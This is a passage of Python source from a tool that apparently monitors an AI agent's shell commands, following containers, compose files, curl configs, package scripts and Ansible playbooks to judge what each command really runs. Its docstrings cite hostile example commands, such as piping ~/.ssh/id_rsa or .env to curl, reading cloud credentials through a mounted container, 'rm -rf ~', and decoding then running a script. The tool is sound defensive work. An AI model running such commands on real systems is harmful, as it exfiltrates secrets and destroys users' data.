    def containers(self, parsed: Any, cwd: str, depth: int, note: str) -> None:
        """`docker exec c cat /h/x`, `docker start c`, `docker cp c:/h/x .` for a container an earlier
        call started with host folders mounted: judged with the container's paths spelled as the
        host's (`docker run -d --name c -v ~:/h …` then `docker exec c cat /h/.aws/credentials`)."""
        from adr.shell.parse import container_use, host_view
        for c in parsed.commands[:64]:
            if c.program not in ("docker", "podman", "nerdctl"):
                continue
            use = container_use(c.program, c.args)
            launch = self.memory.container(use[1]) if use else None
            if launch is None:
                continue
            verb, name, argv = use
            if verb == "exec":
                text = host_view(launch.mounts, "", argv)
            elif verb == "start":
                text = host_view(launch.mounts, launch.workdir, list(launch.command)) if launch.command else ""
            else:
                text = "cp " + host_view(launch.mounts, "", argv[:1]) + " " + shlex.quote(argv[1])
            if text.strip():
                how = ", ".join(f"{src} at {dst}" for src, dst in launch.mounts[:4])
                self.judge(text, cwd, depth + 1, _note(note, f"container {name} has {how} mounted (an earlier call)"),
                           follow=False)

    def script_producer(self, producer: str, sender: str, where: str, depth: int, note: str) -> None:
        """A file a script printed (`sh dump.sh > /tmp/o`, later sent): the script's text in place of
        its name, so what it prints is judged as what is sent (`{ cat ~/.ssh/id_rsa; } | curl -T -`)."""
        parsed = parse_line(producer, self.parse_budget)
        runs = R.runs_of(parsed, where, self.home, frozenset())
        if len(runs) != 1 or runs[0].kind != R.SCRIPT or len(parsed.commands) > 2:
            return
        run = runs[0]
        for text, origin, agent in self.content(run.paths[0], run, note):
            lang = R.language_of_script(run.paths[0], text, run.language)
            code = R.as_command(lang, text) if lang != "other" else ""
            if code:
                self.judge("{ " + code + "\n} | " + sender, where, depth + 1,
                           _note(note, f"{run.paths[0]} ({origin}) printed it"), follow=False, agent=agent)

    def curl_configs(self, parsed: Any, cwd: str, depth: int, note: str) -> None:
        """`curl -K cfg URL`: the options the config file holds are judged as if on the line
        (`upload-file = .env` in cfg is `curl --upload-file .env URL`)."""
        from adr.shell.uploads import curl_config_args, curl_config_files
        for c in parsed.commands[:64]:
            if c.program != "curl" or not ("-K" in " ".join(c.args) or "--config" in " ".join(c.args)):
                continue
            for f in curl_config_files(c.args):
                path = R.resolve(f, cwd, self.home)
                if not path:
                    continue
                run = R.Run(R.SCRIPT, f"curl -K {f}", cwd, (path,))
                for text, origin, _ in self.content(path, run, note):
                    extra = curl_config_args(text)
                    if extra:
                        line = " ".join(shlex.quote(a) for a in ["curl", *extra, *c.args])
                        self.judge(line, cwd, depth + 1, _note(note, f"curl reads its options from {path} ({origin})"),
                                   follow=False)

    def compose_files(self, parsed: Any, cwd: str, depth: int, note: str) -> None:
        """`docker compose up|run|start …` (`docker stack deploy -c F`): each service it starts, read
        as compose builds the project — the -f files or COMPOSE_FILE (on the line, exported earlier,
        or in the project's .env), else the file found upward and its override file, each one's
        include:/extends: files, `${VAR}` from that environment and .env — judged as the `docker run`
        line it stands for: its mounts, its command, `privileged`, the host's PID namespace
        (adr/shell/compose.py). Files on disk or as an agent wrote them."""
        from adr.shell.compose import COMPOSE_FILES, OVERRIDE_FILES, compose_use, dotenv, project_lines
        here = cwd
        line_env: dict[str, str] = {}
        for c in parsed.commands[:64]:
            if c.program in ("cd", "pushd") and not c.via:
                here = R.cd_target(c.args, here, self.home)
                continue
            if c.program == "export" and not c.via:
                line_env.update(a.split("=", 1) for a in c.args if "=" in a)
                continue
            use = compose_use(c.program, c.args)
            if use is None:
                continue
            base = R.resolve(use.project_dir, here, self.home) if use.project_dir else here
            if not base:
                continue
            texts: dict[str, list[tuple[str, str]]] = {}

            def versions(path: str) -> list[tuple[str, str]]:
                if path not in texts:
                    run = R.Run(R.SCRIPT, f"{c.program} compose {use.verb}", base, (path,))
                    texts[path] = [(t, o) for t, o, _ in self.content(path, run, note)] if (
                        self.recall(path) is not None or os.path.exists(path)) else []
                return texts[path]

            env = {n: v for n, (v, _) in self.vars.items() if n not in self.computed}
            env.update(line_env)
            env.update(e.split("=", 1) for e in c.env if "=" in e)
            dot = [R.resolve(f, here, self.home) for f in use.env_files] or [posixpath.join(base, ".env")]
            file_env: dict[str, str] = {}
            for p in dot:
                for text, _ in versions(p)[:1] if p else []:
                    file_env.update(dotenv(text))
            env = {**file_env, **env}  # the shell's environment wins over .env
            named = list(use.files) or [f for f in re.split(r"[:;]", env.get("COMPOSE_FILE", "")) if f]
            streamed = ""
            fed = next((r.target for r in c.redirects if r.op == "<"), "")
            for k, f in enumerate(named[:8]):
                if f in ("-", "/dev/stdin") and c.stdin_text:
                    streamed = c.stdin_text  # `docker compose -f - up <<EOF`: the file is the heredoc
                elif f in ("-", "/dev/stdin") and fed:
                    named[k] = fed  # `-f - < stack.yml`: that file
                elif f == "-" or f == "/dev/stdin" or f.startswith(("<(", "/dev/fd/", "/proc/")) or "://" in f or f.startswith("git@"):
                    # a pipe, a process substitution or a remote file: nothing adr can read before it runs
                    self.bound(f"compose reads its file from {f[:80]}: its services were not judged", f[:200],
                               note or f"{c.program} compose {use.verb}")
            if streamed:
                lines, bound = project_lines([(posixpath.join(base, "<stdin>"), streamed)], base, use, env, None)
                for name, line in lines:
                    self.judge(line, here, depth + 1, _note(note, f"service {name} of the compose file on stdin"),
                               follow=False)
            named = [f for f in named if f not in ("-", "/dev/stdin") and not f.startswith("<(") and "://" not in f]
            if named or use.files:
                paths = [p for p in (R.resolve(f, here, self.home) for f in named[:8]) if p]
            else:  # compose looks in the project directory, then upward, and reads its override file
                paths, d = [], base
                for _ in range(16):
                    found = next((p for p in (posixpath.join(d, n) for n in COMPOSE_FILES)
                                  if self.recall(p) is not None or os.path.isfile(p)), "")
                    if found or d == "/":
                        over = [posixpath.join(d, o) for o in OVERRIDE_FILES]
                        paths = [found] + [o for o in over if self.recall(o) is not None or os.path.isfile(o)] \
                            if found else []
                        break
                    d = posixpath.dirname(d)
            if not paths:
                continue
            where = base if use.project_dir else posixpath.dirname(paths[0])

            def read(path: str) -> "str | None":
                got = versions(path)
                return got[0][0] if got else None
            # each version of the first file (on disk, as the agent wrote it) with the others after it
            for text, origin in versions(paths[0]):
                rest = [(p, t) for p in paths[1:] for t, _ in versions(p)[:1]]
                lines, bound = project_lines([(paths[0], text), *rest], where, use, env, read)
                if bound:
                    self.bound(f"{paths[0]}: {bound}", paths[0], note or f"{c.program} compose {use.verb}")
                shown = paths[0] + "".join(f" + {p}" for p, _ in rest)
                for name, line in lines:
                    self.judge(line, here, depth + 1,
                               _note(note, f"service {name} of {shown} ({origin}), started by `{c.program} "
                                           f"{'compose ' + use.verb if 'compose' in c.args[:4] or 'compose' in c.program else 'stack deploy'}`"),
                               follow=False)
            for p in paths[1:]:  # an override file written by an agent in a version the disk lacks
                for text, origin in versions(p)[1:]:
                    lines, bound = project_lines([(paths[0], read(paths[0]) or ""), (p, text)], where, use, env, read)
                    for name, line in lines:
                        self.judge(line, here, depth + 1, _note(note, f"service {name} of {p} ({origin})"),
                                   follow=False)

    def kube_play(self, parsed: Any, cwd: str, depth: int, note: str) -> None:
        """`podman kube play F`: each container of the manifest judged as its `docker run` line
        (hostPath volumes as host mounts, command + args, privileged; adr/shell/compose.py)."""
        from adr.shell.compose import kube_lines, kube_play_files
        here = cwd
        for c in parsed.commands[:64]:
            if c.program in ("cd", "pushd") and not c.via:
                here = R.cd_target(c.args, here, self.home)
                continue
            for f in kube_play_files(c.program, c.args)[:8]:
                path = R.resolve(f, here, self.home)
                if not path:
                    continue
                run = R.Run(R.SCRIPT, "podman kube play", here, (path,))
                for text, origin, _ in self.content(path, run, note):
                    lines, bound = kube_lines(text)
                    if bound:
                        self.bound(f"{path}: {bound}", path, note or run.how)
                    for name, line in lines:
                        self.judge(line, here, depth + 1,
                                   _note(note, f"container {name} of {path} ({origin}), started by `podman kube play`"),
                                   follow=False)

    def sent_from(self, path: str, shown: str, sender: str, cwd: str, depth: int, note: str, hops: int,
                  verb: str = "sends") -> None:
        """`PRODUCER | SENDER` for a remembered file, and again for each remembered file its producer
        read (`cp .env a` then `cat a > b` then `zip c.zip b`: c.zip is judged as .env's too). `verb`: what
        the line does with the file, for the note ("reads back": a list or batch file, files_read_back)."""
        w = self.recall(path)
        if w is None:
            return
        if not w.producer:  # (any session's: the file stays on disk between them)
            if w.content and hops == 0:
                # what an agent wrote (Write, a heredoc, echo > f) and now sends: that text on the
                # sender's stdin (a token it copied out of a file it read is then a token sent)
                self.judge(f"{sender} <<'ADR_WRITTEN_{len(w.content)}'\n{w.content[:65536]}\nADR_WRITTEN_{len(w.content)}",
                           cwd, depth + 1, _note(note, f"{verb} {shown}, {w.origin(self.session)}"), follow=False)
            return
        where = w.producer_cwd or cwd
        said = _note(note, f"{verb} {shown}, {w.origin(self.session)} by `{w.producer[:120]}`")
        self.judge(w.producer + " | " + sender, where, depth + 1, said, follow=False)
        self.script_producer(w.producer, sender, where, depth, said)
        if hops >= 3:
            return
        try:
            words = shlex.split(w.producer, comments=False)
        except ValueError:
            return
        for a in words[:32]:
            if a.startswith("-") or a in ("cat", "tar", "c", "|", "<", "{", "}", ";"):
                continue
            p = R.resolve(a, where, self.home)
            if p and p != path:
                self.sent_from(p, f"{shown} (made from {a})", sender, cwd, depth, note, hops + 1, verb)

    def out_of_time(self, command: str, note: str) -> bool:
        """The walk's own CPU-time bound, or the decision's budget, is spent: the rest asks (unless what
        is being read is read only while time lasts: `lenient`)."""
        if self.budget is not None and self.budget.exhausted:
            if not self.lenient:
                self.bound(f"the decision's budget ran out ({self.budget.exhausted})", command[:200], note)
            return True
        if decision_clock() > self.deadline:
            if not self.lenient:
                self.bound(f"judging what it runs took more than its time budget ({self.limits.cpu_ms:g} ms)",
                           command[:200], note)
            return True
        return False

    def read(self, path: str, note: str, how: str) -> FileRead | None:
        """A file for this decision, within the per-decision bounds (None when a bound tripped)."""
        if self.files >= self.limits.files:
            self.bound(f"more than {self.limits.files} files to read", path, note or how)
            return None
        if self.bytes >= self.limits.total_bytes:
            self.bound(f"more than {self.limits.total_bytes // 1024} KiB of scripts to read", path, note or how)
            return None
        self.files += 1
        got = read_file(path, self.limits.file_bytes)
        self.bytes += len(got.text)
        return got

    def recall(self, path: str) -> Any:
        if self.memory is None:
            return None
        w = self.memory.lookup(path)
        if w is None:
            try:
                real = os.path.realpath(path)
            except (OSError, ValueError):
                return None
            if real != path:
                w = self.memory.lookup(real)
        return w

    def content(self, path: str, run: R.Run, note: str, *, need_exec: bool = False, line_written: bool = False,
                counted: bool = True, large_asks: bool = True, w: Any = False,
                read_as: str = "file") -> list[tuple[str, str, bool]]:
        """(text, origin, written by an agent) to judge for a file that runs: what is on disk, what an
        agent wrote there when that differs (or the disk has nothing) and, `line_written`, what the line
        itself writes there. An unreadable file asks; so does a too large one (`large_asks`). `counted`:
        against the per-decision file and byte bounds (a program's source and a build's manifests have
        a budget of their own: sources.py). `w`: adr's memory of the file, when the caller has it.
        `read_as`: a file read once as code and once for the commands it lists (a Rakefile) is read
        once per way."""
        key = (read_as, path)
        if key in self.seen:
            return []
        self.seen.add(key)
        w = self.recall(path) if w is False else w
        got = self.read(path, note, run.how) if counted else read_file(path, self.limits.file_bytes)
        if got is None:
            return []
        out: list[tuple[str, str, bool]] = []
        origin = w.origin(self.session) if w is not None else "on disk, not written through adr"
        if got.status in ("ok", "too-large"):
            if need_exec and not got.mode & 0o111:
                return []  # git skips a hook that is not executable
            out.append((got.text, origin, w is not None))
            if got.status == "too-large" and large_asks:
                self.bound(f"{path} is larger than {self.limits.file_bytes // 1024} KiB: only its start was judged",
                           path, note or run.how)
        elif got.status in ("special", "not-regular", "unreadable"):
            self.add(_unreadable(path, got.status, run.how, note))
        if w is not None and w.content is not None and w.sha256 != got.sha256:
            changed = "" if got.status == "missing" else "; the file changed since"
            out.append((w.content, f"as {w.origin(self.session)}{changed}", True))
        written = self.line_writes.get(path) if line_written else None
        if written is not None and all(written != text for text, _, _ in out):
            out.append((written, "as written earlier on this line", True))
        return out

    # ---- run kinds ------------------------------------------------------------------------------------

    def run_sources(self, run: R.Run, line: str, depth: int, note: str) -> None:
        """A program read from its files (`go run .`, `gcc x.c && ./x`, a Terraform folder): adr/daemon/sources.py."""
        from adr.daemon import sources
        sources.run_sources(self, run, depth, note)

    def run_build(self, run: R.Run, line: str, depth: int, note: str) -> None:
        """A build tool's project (cargo, maven, gradle, dotnet, swift, sbt, meson): adr/daemon/sources.py."""
        from adr.daemon import sources
        sources.run_build(self, run, depth, note)

    def run_command(self, run: R.Run, line: str, depth: int, note: str) -> None:
        """A command a tool runs around what it builds (`go test -exec CMD`)."""
        from adr.daemon import sources
        sources.run_command(self, run, depth, note)

    def run_script(self, run: R.Run, line: str, depth: int, note: str, from_line: bool = False,
                   matched: bool = False) -> None:
        """One file that runs. `from_line`: it may be one the line itself writes (run-parts' folder); so
        may a provisioning file (the shell layer reads the others; sources.py a compiled program's).
        `matched`: the path is a file a pattern matched, a name not to be matched again (`/usr/bin/[`
        matches itself: read as a pattern again, it recursed without end)."""
        if run.mode == R.CONCAT:
            self.run_concatenated(run, depth, note)
            return
        from_line = from_line or run.language.startswith("provision:")
        path = run.paths[0]
        if run.mode != "run-parts" and not matched and any(ch in path for ch in "*?[") and path.startswith("/"):
            # `sh /tmp/t/e.s?`, `for f in /tmp/t/*.sh; do sh $f; done`: each file the pattern names runs — on
            # disk and among what the session wrote (bounded: more than that asks)
            found = list(dict.fromkeys(itertools.islice(_glob_files(path), GLOB_RUNS + 1)))
            if self.memory is not None:
                found += [w.path for w in self.memory.matching(path, GLOB_RUNS + 1) if w.path not in found]
            if len(found) > GLOB_RUNS:
                self.bound(f"more than {GLOB_RUNS} files match {path}: only the first were judged", path, note or run.how)
            for f in found[:GLOB_RUNS]:
                self.run_script(replace(run, paths=(f,)), line, depth, note, from_line=from_line, matched=True)
            return
        if run.mode == "run-parts":
            # `run-parts DIR`: every file in the folder runs (bounded), with those the line writes there
            files = list(dict.fromkeys(_folder_files(path) + self.line_sources(path, "")))
            if len(files) > R.MAX_FOLDER_SOURCES:
                self.bound(f"more than {R.MAX_FOLDER_SOURCES} files in {path}: only the first were judged",
                           path, note or run.how)
            for f in files[:R.MAX_FOLDER_SOURCES]:
                self.run_script(replace(run, paths=(f,), mode="exec"), line, depth, note, from_line=True)
            return
        if run.language in R.FOLDER_LANGS and (run.mode == "interpreter" or os.path.isdir(path)
                                                or self.line_sources(path, run.language)):
            # a compiled program's file or folder, a Terraform configuration's folder: read as one program
            # (bounded by bytes, newest first, with what the line itself writes there)
            self.run_sources(replace(run, kind=R.SOURCES, paths=(path,), mode="run"), line, depth, note)
            return
        if os.path.isdir(path) or run.language == "app":
            # `python3 pkg` runs pkg/__main__.py; `node .` runs the package's main (or index.js);
            # `open X.app` runs X.app/Contents/MacOS/<CFBundleExecutable>
            path = _folder_entry(path, run.language)
            if not path:
                return
            run = replace(run, paths=(path,), language="" if run.language == "app" else run.language)
        w = self.recall(path)
        if w is None and R.INSTALLED.search(path):
            return  # an installed program or dependency no agent wrote (installs are judged as installs)
        if w is not None and w.url:
            self.downloaded(run, path, w, depth, note)
        # (a file the line writes and then hands to a program that reads it as its commands — `crontab F`,
        # `at -f F` (mode "job"), `gdb -x F`, `psql -f F` — is read as written: the shell layer follows what
        # a shell runs, and judges a script's code where the line writes it)
        texts = self.content(path, run, note, line_written=from_line or run.mode == "job"
                             or run.language.startswith(("stdin:", "sql:", "eval:"))
                             # (`nmap --script x.nse`: the write read no language from the name)
                             or run.mode == "interpreter" and posixpath.splitext(path)[1].lower() not in SCRIPT_EXT)
        if not w or not w.url:
            self.made_unread(run, path, w, not texts, depth, note)
        for text, origin, agent in texts:
            lang = R.language_of_script(path, text, run.language)
            here = _note(note, f"runs {path} ({origin}) via `{run.how}`")
            words = R.shebang(text).split()
            if run.mode == "exec" and (len(words) > 2 or len(words) == 2 and not words[0].endswith("/env")):
                # `#!/usr/bin/env -S bash -c '…'`: the interpreter line is a command of its own
                self.judge(" ".join(words + [shlex.quote(path)]), run.cwd, depth, _note(here, "its #! line"),
                           follow=False, agent=agent)
            if lang == "other":
                continue
            if lang == "shell" and run.args and run.mode != "source":
                # `sh up.sh .env` with `curl -T "$1" URL` inside: the arguments are its $1 … (`set --`)
                text = "set -- " + " ".join(_arg_word(a) for a in run.args[:32]) + "\n" + text
            elif run.args and run.mode != "source":
                # `python3 x.py 'curl … | sh'` with os.system(sys.argv[1]) inside: the arguments in place
                text = with_argv_values(lang, text, run.args, file=True)
            env = self.run_environment(run)
            if env and lang == "shell" and run.mode != "source":
                text = self.exported(run) + text  # `CMD='rm -rf ~' sh x.sh` with `$CMD` inside
            elif env and run.mode != "source":
                text = with_env_values(lang, text, env)
            if run.stdin is not None and lang != "shell":
                text = with_stdin_value(lang, text, run.stdin)  # `echo CMD | python3 x.py` reading sys.stdin
            self.judge(self.as_command(lang, text, path, note or run.how), run.cwd, depth, here, agent=agent)
            if lang == "shell" and run.mode == "source" and line:
                self.sourced_variables(text, line, run.cwd, depth, here, run.raw)
            if lang == "provision:ansible":
                self.ansible_included(run, path, text, depth, note)

    def run_concatenated(self, run: R.Run, depth: int, note: str) -> None:
        """`cat a b | sh`: the files joined as they are, judged as one program (each is judged alone by its
        own run too). Only when every part is known: a part adr cannot read leaves that to the parts."""
        parts = []
        for path in run.paths[:8]:
            got = self.content(path, run, note, read_as="concat", large_asks=False)
            if not got:
                return
            parts.append(got[-1][0])  # (what an agent wrote there last, when it differs from the disk)
        text = "".join(parts)
        self.judge(self.as_command(run.language or "shell", text, run.paths[0], note or run.how), run.cwd, depth,
                   _note(note, f"runs {' + '.join(run.paths[:8])} joined via `{run.how}`"))

    def run_environment(self, run: R.Run) -> "dict[str, str]":
        """The variables a script run gets: its own `NAME=value` prefix over what the line set before it
        (`export CMD=…; python3 x.py`) over what earlier calls of the session left set."""
        env: dict[str, str] = {}  # (the nearest first: readers take a bounded number)
        for kv in run.env[:32]:
            k, eq, v = kv.partition("=")
            if eq and _ENV_NAME_RE.fullmatch(k):
                env[k] = v
        if self.top is not None:
            for k, v in self.top[0].assigned[:64]:
                if _ENV_NAME_RE.fullmatch(k):
                    env.setdefault(k, v)
        for k, (v, _) in list(self.vars.items())[:64]:  # (earlier calls')
            if k not in self.computed and _ENV_NAME_RE.fullmatch(k):
                env.setdefault(k, v)
        return env

    def exported(self, run: R.Run) -> str:
        """`export NAME=value` lines for the variables a run gets from the line, to put before the shell
        text it runs (a script, a package script, recipes): `$CMD` in them is what the line set."""
        return "".join(f"export {k}={shlex.quote(v)}\n" for k, v in list(self.run_environment(run).items())[:32])

    def envrc_path(self, cwd: str) -> str:
        """The folders an agent-written `.envrc` of the working directory puts on PATH (`PATH_add bin`,
        `export PATH=$PWD/bin:$PATH`): direnv applies them to every command run there, so a program an
        agent wrote in one answers a bare name. Joined with the session's own, `:`-separated."""
        if self.memory is None or not cwd.startswith("/"):
            return ""
        w = self.memory.lookup(posixpath.join(cwd, ".envrc"))
        if w is None or not w.content:
            return ""
        dirs = [posixpath.normpath(posixpath.join(cwd, g)) for m in _ENVRC_PATH.finditer(w.content[:65536])
                if (g := m.group(1) or m.group(2))][:8]
        return ":".join(dirs + ([self.session_path] if self.session_path else []))

    def armed(self, path: str, text: str, got: "tuple[str, str, str]") -> None:
        """`text` written to `path`, which a command of an earlier call runs (`got`: how, language, cwd)."""
        how, language, cwd = got
        lang = R.language_of_script(path, text, language)
        if lang == "other":
            return
        self.judge(self.as_command(lang, text, path, how), cwd, 1,
                   f"written to {path}, which `{how}` (started in an earlier call, before the file existed) runs")

    def line_made(self) -> "dict[str, tuple[str, str, str]]":
        """path → (producer, folder, writer) of each file the line makes whole with content adr does not
        know (`base64 -d p.b64 > p.sh`, `gunzip p.sh.gz`, `openssl enc -d -in p.enc -out p.sh`)."""
        if self._line_made is None:
            self._line_made = {}
            if self.top is not None:
                parsed, cwd = self.top
                made = files_made_with_writer(parsed.commands, computed=parsed.computed)
                seen = {t for t, _, _ in made}
                made += [(w.path, "", w.by) for w in parsed.writes[:MAX_LINE_WRITES]
                         if w.content is None and w.kind == "write" and w.path not in seen and w.by]
                for target, producer, writer in made[:MAX_LINE_WRITES]:
                    path = R.resolve(target, cwd, self.home)
                    if path and not path.startswith(_SPECIAL) and path not in self.line_writes:
                        self._line_made[path] = (producer, cwd, writer)
        return self._line_made

    def made_unread(self, run: R.Run, path: str, w: Any, unread: bool, depth: int, note: str) -> None:
        """A file that runs with content adr cannot judge, made by a command: earlier on the line (what is
        on disk is the old file) or in an earlier call where the daemon cannot read it now (`unread`: not
        on disk, its content not in the memory) — `base64 -d p.b64 > p.sh` then `bash p.sh`. Judged as
        `PRODUCER | RUNNER` (the one-liner the two amount to); made by a decoder (decoders.py) it asks."""
        got = self.line_made().get(path) if self.top is not None else None
        if got is not None:
            producer, where, writer = got
            origin = "made earlier on this line"
        elif unread and w is not None and w.content is None and (w.producer or w.writer) and not os.path.lexists(path):
            producer, where, writer = w.producer, w.producer_cwd or run.cwd, w.writer
            origin = w.origin(self.session)
        else:
            return
        runner = _RUNNER.get(R.language_of_script(path, "", run.language), "sh")
        said = _note(note, f"runs {path} ({origin}{f' by `{producer[:120]}`' if producer else ''}; its content "
                           f"is not known) via `{run.how}`")
        if producer:
            self.judge(f"{producer} | {runner}", where, depth, said)
        if decoded_by(writer):
            self.add(_decoded_run(path, writer, run.how, note))

    def sourced_variables(self, text: str, line: str, cwd: str, depth: int, note: str, raw: str = "") -> None:
        """`. vars.sh && curl -d @$F …`: the variables a sourced file sets are set for the rest of the
        line — judged once more with them assigned where the file is sourced (`raw`: that command's text
        on the line), so they win over a session's variable assigned before the line (variables()) and
        lose to the line's own later assignments; assigned first when the command is not found."""
        parsed = parse_line(text[:MAX_SOURCE], self.parse_budget)
        used = [(n, v) for n, v in parsed.assigned[:32]
                if ("$" + n in line or "${" + n in line) and re.search(r"\$\{?" + re.escape(n) + r"(?![A-Za-z0-9_])", line)
                or any(p in line for p in env_readers(n))]  # (`. vars.sh; lefthook run`: LEFTHOOK_CONFIG)
        key = "sourced:" + (raw or line[:200])
        if used and key not in self.expanding:
            # (a tool's variable — LEFTHOOK_CONFIG, MAKEFILES … — is read by the walk, not the rules: the line is
            # followed again with it, once)
            handed = any(env_readers(n) for n, _ in used)
            prefix = "\n".join(("export " if env_readers(n) else "") + R.assignment_text(n, v) for n, v in used)
            placed = line.replace(raw, "{ " + raw + "\n" + prefix + "\n}", 1) if raw and raw in line else ""
            self.expanding.append(key)
            try:
                self.judge(placed or prefix + "\n" + line, cwd, depth,
                           _note(note, "with " + ", ".join(f"${n}" for n, _ in used) + " as the sourced file sets it"),
                           follow=handed)
            finally:
                self.expanding.pop()

    def ansible_included(self, run: R.Run, top: str, text: str, depth: int, note: str) -> None:
        """The task files, playbooks and roles a playbook brings in (include_tasks, import_playbook, roles:,
        include_role …), each looked up as Ansible does and judged for its commands; bounded by files and
        depth (what lies past a bound asks)."""
        from adr.shell import provisioners as P
        queue: list[tuple[str, str, str, int]] = [(top, text, "", 0)]  # (file, its text, its role, depth)
        files = 0
        cfg = self.ansible_cfg(run)
        while queue:
            path, body, role, level = queue.pop(0)
            incs = P.ansible_file(body).includes
            if incs and level >= P.MAX_INCLUDE_DEPTH:
                self.bound(f"{path} includes files more than {P.MAX_INCLUDE_DEPTH} deep: the deeper were not judged",
                           path, note or run.how)
                continue
            for inc in incs:
                for cand, in_role in P.include_paths(inc, posixpath.dirname(path), posixpath.dirname(top), run.cwd,
                                                     self.home, role, cfg):
                    if ("file", cand) in self.seen or not (os.path.isfile(cand) or cand in self.line_writes or (
                            self.memory is not None and self.memory.lookup(cand) is not None)):
                        continue
                    files += 1
                    if files > P.MAX_INCLUDED_FILES:
                        self.bound(f"{top} brings in more than {P.MAX_INCLUDED_FILES} files: only the first were "
                                   "judged", top, note or run.how)
                        return
                    for got, origin, agent in self.content(cand, run, note, line_written=True):
                        shown = f"runs {cand} ({origin}), brought in by {path} via `{run.how}`"
                        self.judge(self.as_command("provision:ansible", got, cand, note or run.how), run.cwd, depth,
                                   _note(note, shown), agent=agent)
                        queue.append((cand, got, in_role, level + 1))

    def ansible_cfg(self, run: R.Run) -> Any:
        """Where Ansible looks for roles and collections in this run: the line's ANSIBLE_ROLES_PATH /
        ANSIBLE_COLLECTIONS_PATH[S], and the ansible.cfg it reads (ANSIBLE_CONFIG, ./ansible.cfg, then
        ~/.ansible.cfg — the first found), as the line writes it or on disk."""
        from adr.daemon.sources import _small
        from adr.shell import provisioners as P
        env = dict(a.partition("=")[::2] for a in run.args if "=" in a)
        given = R.resolve(env.get("ANSIBLE_CONFIG", ""), run.cwd, self.home) if env.get("ANSIBLE_CONFIG") else ""
        got = P.AnsiblePaths()
        for cfg in (given, posixpath.join(run.cwd, "ansible.cfg") if run.cwd else "",
                    posixpath.join(self.home, ".ansible.cfg") if self.home else ""):
            if cfg and (os.path.isfile(cfg) or cfg in self.line_writes or self.recall(cfg) is not None):
                got = P.ansible_cfg(_small(self, cfg, 64 * 1024), posixpath.dirname(cfg), self.home)
                break
        lines = [f"{k} = {env[v]}" for k, v in (("roles_path", "ANSIBLE_ROLES_PATH"),
                                                ("collections_path", "ANSIBLE_COLLECTIONS_PATH"),
                                                ("collections_paths", "ANSIBLE_COLLECTIONS_PATHS")) if v in env]
        if lines:
            more = P.ansible_cfg("[defaults]\n" + "\n".join(lines), run.cwd, self.home)
            got = P.AnsiblePaths(more.roles + got.roles, more.collections + got.collections)
        return got

    def as_command(self, lang: str, text: str, shown: str, note: str) -> str:
        """R.as_command, and for a provisioning file (a playbook, .tf files) the commands it has run:
        more than adr follows is a bound."""
        if not lang.startswith("provision:"):
            return R.as_command(lang, text)
        from adr.shell.provisioners import commands_of
        cmds, tripped = commands_of(lang[10:], text)
        if tripped:
            self.bound(f"{shown} has more commands or includes than adr follows: only the first were judged", shown, note)
        return "\n".join(cmds)

    def downloaded(self, run: R.Run, path: str, w: Any, depth: int, note: str) -> None:
        """A downloaded file that now runs: judged as the one-liner that downloads and runs it."""
        from adr.daemon.memory import fetch_command
        lang = run.language or ""
        runner = {"exec": shlex.quote(path), "source": f". {shlex.quote(path)}"}.get(
            run.mode, f"{_RUNNER.get(lang, 'sh')} {shlex.quote(path)}")
        self.judge(f"{fetch_command(w.url, path)} && {runner}", run.cwd, depth,
                   _note(note, f"runs {path} ({w.origin(self.session)}) via `{run.how}`"), follow=False)

    def downloaded_program(self, run: R.Run, depth: int, note: str) -> None:
        """A Makefile, justfile, Taskfile, package.json or setup.py an earlier call downloaded, which this
        line's tool now runs (`curl -o Makefile URL`, then `make`): judged as the one-liner that
        downloads it and runs the tool — the server chose the recipes."""
        from adr.daemon.memory import fetch_command
        for path in run.paths[:8]:
            w = self.recall(path)
            if w is not None and w.url:
                # (named from the folder the tool runs in, as it finds it: `curl -o Makefile URL && make`)
                here = run.cwd or posixpath.dirname(path)
                name = posixpath.relpath(path, here) if path.startswith(here.rstrip("/") + "/") else path
                self.judge(f"cd {_arg_word(here)} && {fetch_command(w.url, name)} && {run.how}", here,
                           depth, _note(note, f"runs {path} ({w.origin(self.session)}) via `{run.how}`"), follow=False)
                return

    def run_package(self, run: R.Run, line: str, depth: int, note: str) -> None:
        path = run.paths[0]
        shell = self.script_shell(posixpath.dirname(path), run, note)
        for text, origin, agent in self.content(path, run, note, line_written=True):
            for name, script in R.package_scripts(text, run.names):
                said = _note(note, f"runs the {name!r} script of {path} ({origin}) via `{run.how}`")
                if run.args and name == run.args[0]:
                    # `npm run up -- ~/.ssh/id_rsa URL`: the words after the script's name are appended to it
                    script = script + " " + " ".join(_arg_word(a) for a in run.args[1:33])
                self.judge(self.exported(run) + script, run.cwd, depth, said, agent=agent)
                if shell:
                    # `script-shell=./x.sh` in the project's .npmrc: npm runs every script as `./x.sh -c SCRIPT`
                    self.judge(f"{shlex.quote(shell)} -c {shlex.quote(script)}", run.cwd, depth,
                               _note(said, f"through script-shell {shell}"), agent=agent)

    def script_shell(self, folder: str, run: R.Run, note: str) -> str:
        """The shell a package manager runs the project's scripts with, when its .npmrc names one that is
        not a standard shell ("" otherwise)."""
        rc = posixpath.join(folder, ".npmrc")
        if not (os.path.isfile(rc) or self.recall(rc) is not None):
            return ""
        for text, _, _ in self.content(rc, replace(run, paths=(rc,)), note):
            m = _SCRIPT_SHELL.search(text)
            if m:
                value = m.group(1).strip().strip("'\"")
                if value and posixpath.basename(value) not in ("sh", "bash", "zsh", "dash", "ksh"):
                    return value
        return ""

    def run_make(self, run: R.Run, line: str, depth: int, note: str) -> None:
        for path in run.paths:
            texts = self.content(path, run, note, line_written=True)  # (`printf 'all:…' > mk; make -f mk`)
            if not texts:
                continue
            env = self.run_environment(run)
            if env:  # `CMD=… make`, `export CMD=…; make`: make reads the environment as variables
                given = {a.partition("=")[0] for a in run.args}
                run = replace(run, args=tuple(f"{k}={v}" for k, v in list(env.items())[:32] if k not in given) + run.args)
            for text, origin, agent in texts:
                text = self.make_included(text, run, note)
                recipes, tripped = self.cc.make_recipes(text, run)
                if tripped:
                    self.bound(f"more than {R.MAX_MAKE_TARGETS} make targets to follow", path, note or run.how)
                if recipes:  # one text: one parse and one evaluation for the whole build
                    labels = [label.removeprefix("make target ") for label, _ in recipes]
                    what = ", ".join(labels[:4]) + (f" and {len(labels) - 4} more" if len(labels) > 4 else "")
                    self.judge(self.exported(run) + "\n".join(r for _, r in recipes), run.cwd, depth,
                               _note(note, f"runs make: {what} of {path} ({origin}) via `{run.how}`"), agent=agent)
            return  # make reads the first of GNUmakefile, makefile, Makefile that exists

    def run_tasks(self, run: R.Run, line: str, depth: int, note: str) -> None:
        """`just` / `task`: the recipes of the first justfile / Taskfile found (the directory, then up)."""
        from adr.shell.taskrunners import just_recipes, taskfile_tasks
